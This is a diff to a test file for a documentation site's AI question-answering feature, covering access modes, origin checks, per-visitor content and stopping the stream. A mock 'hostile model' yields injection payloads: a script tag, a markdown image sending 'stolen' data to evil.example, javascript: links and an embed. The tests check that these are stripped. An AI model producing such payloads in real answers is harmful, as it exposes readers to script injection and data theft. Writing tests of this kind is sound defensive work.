@@ -1,14 +1,15 @@
 // The reader as a handler: which requests it takes, what it keeps and for how long, who sees what, and what it refuses.
 
 import fc from "fast-check";
+import type { Ask, DocsApiOptions } from "octavo";
 import { createSite } from "octavo/site";
 import { expect, test } from "vitest";
 import { inkOn, readable } from "../../src/site/frame/colors";
 import { openSite, sign } from "../resources/site-stage";
 import { runs } from "../runs";
 
-const opened = async (visibility: string) => {
-  const stage = await openSite(visibility);
+const opened = async (visibility: string, options: DocsApiOptions = {}) => {
+  const stage = await openSite(visibility, options);
   const site = createSite(stage.api);
   const get = async (path: string, headers: Record<string, string> = {}, method = "GET") => {
     const url = path.startsWith("http") ? path : stage.url + path;
@@ -145,6 +146,93 @@ test("a form of another site tells nothing", async () => {
   expect(await counted()).toEqual(none);
   expect(await rate({ origin: new URL(url).origin })).toBe(200);
   expect(await counted()).not.toEqual(none);
+});
+
+/** A model that was told by a page to do harm. */
+const hostileModel: Ask = async function* (question, { passages, language }) {
+  yield `## You asked: ${question} (${language})\n\n<script>alert(1)</script>\n\nSee ![x](https://evil.example/?q=stolen)\n\n`;
+  yield "[click](javascript:alert(1)) and [the web](https://example.org/) and `code`\n\n- one\n- two\n\n";
+  yield '{% embed url="https://evil.example/" %}\n\n```js\nconst a = 1;\n```\n\n';
+  for (const { title, text } of passages) yield `${title}: ${text}\n\n`;
+  yield { followups: ["And <then>?"] };
+};
+
+test("a question is answered where the site and the host allow it, from what this visitor sees", async () => {
+  const stage = await opened("public", { ask: hostileModel });
+  const { get, ask, at, space, url, api } = stage;
+  const markdown = "{% if visitor.claims.isBeta %}\nHello to betas.\n{% endif %}\n\nHello to all.\n";
+  const changes = [{ operation: "insert_page", title: "Greeting", document: { markdown } }];
+  await ask("admin", `POST /v1/spaces/${space}/content`, { changes });
+  const site = createSite(api);
+  const own = { origin: new URL(url).origin };
+  const put = async (form: Record<string, string>, headers: Record<string, string> = own) => {
+    const body = new URLSearchParams(form);
+    const response = await site.fetch(new Request(`${url}/~octavo/ask`, { method: "POST", headers, body }));
+    return { status: response.status, headers: response.headers, text: await response.text() };
+  };
+
+  expect((await get("")).text).not.toContain("~octavo/ask");
+  for (const mode of ["none", "integration"]) {
+    await ask("admin", `PUT ${at}/customization`, { ai: { mode } });
+    expect([(await get("/~octavo/ask")).status, (await put({ q: "hello" })).status], mode).toEqual([404, 404]);
+  }
+  await ask("admin", `PUT ${at}/customization`, { ai: { mode: "assistant" } });
+  expect((await get("")).text).toContain("~octavo/ask");
+  expect((await get("/~octavo/search?q=hello")).text).toContain('<input type="hidden" name="q" value="hello">');
+  expect((await get("/~octavo/ask")).text).toContain('<input type="text" name="q" required');
+  expect((await put({ q: "hello" }, { origin: "https://elsewhere.example" })).status).toBe(403);
+
+  const page = await put({ q: "hello" });
+  expect(page.status).toBe(200);
+  expect(page.headers.get("cache-control")).toBe("no-store");
+  expect(page.text).toContain("You asked: hello (en)");
+  expect(page.text).toContain('<a href="https://example.org/">the web</a>');
+  expect(page.text).toContain(`<a href="${new URL(url).pathname}/greeting">Greeting</a>`);
+  expect(page.text).toContain("Hello to all.");
+  expect(page.text).toContain('value="And &lt;then&gt;?"');
+  for (const harm of ["<script>alert", "stolen", 'src="https://evil', "javascript:", "<iframe", "Hello to betas"])
+    expect(page.text.includes(harm), harm).toBe(false);
+  const cookie = `octavo-visitor=${await sign(stage, { isBeta: true })}`;
+  expect((await put({ q: "hello" }, { ...own, cookie })).text).toContain("Hello to betas.");
+
+  const streamed = await put({ q: "hello", alone: "1" });
+  const states = streamed.text
+    .trim()
+    .split("\n")
+    .map((line) => JSON.parse(line) as string);
+  expect(states.length).toBeGreaterThan(1);
+  expect(page.text).toContain(states.at(-1)!);
+  expect(states[0]).not.toContain("Greeting");
+});
+
+test("a model that fails is said to, one that nobody reads stops, and without one nothing is offered", async () => {
+  let isStopped = false;
+  const model: Ask = async function* (question) {
+    if (question === "fail") throw new Error("the model is gone");
+    try {
+      for (let i = 0; i < 1000; i++) yield `Word ${i} of an answer that is very long and has no end.\n\n`;
+    } finally {
+      isStopped = true;
+    }
+  };
+  const { ask, at, url, api, get } = await opened("public", { ask: model, onError: () => undefined });
+  await ask("admin", `PUT ${at}/customization`, { ai: { mode: "search" } });
+  const site = createSite(api);
+  const put = (q: string) => {
+    const init = { method: "POST", headers: { origin: new URL(url).origin } };
+    return site.fetch(new Request(`${url}/~octavo/ask`, { ...init, body: new URLSearchParams({ q, alone: "1" }) }));
+  };
+  expect(await (await put("fail")).text()).toContain("could not be answered");
+  const reader = (await put("go on")).body!.getReader();
+  expect(new TextDecoder().decode((await reader.read()).value)).toContain("Word 0");
+  await reader.cancel();
+  await expect.poll(() => isStopped).toBe(true);
+  expect((await get("")).text).toContain("~octavo/ask");
+
+  const other = await opened("public");
+  await other.ask("admin", `PUT ${other.at}/customization`, { ai: { mode: "search" } });
+  expect((await other.get("")).text).not.toContain("~octavo/ask");
+  expect((await other.get("/~octavo/ask")).status).toBe(404);
 });
 
 test("a colour as text can be read on its ground, whatever a site chose", () => {
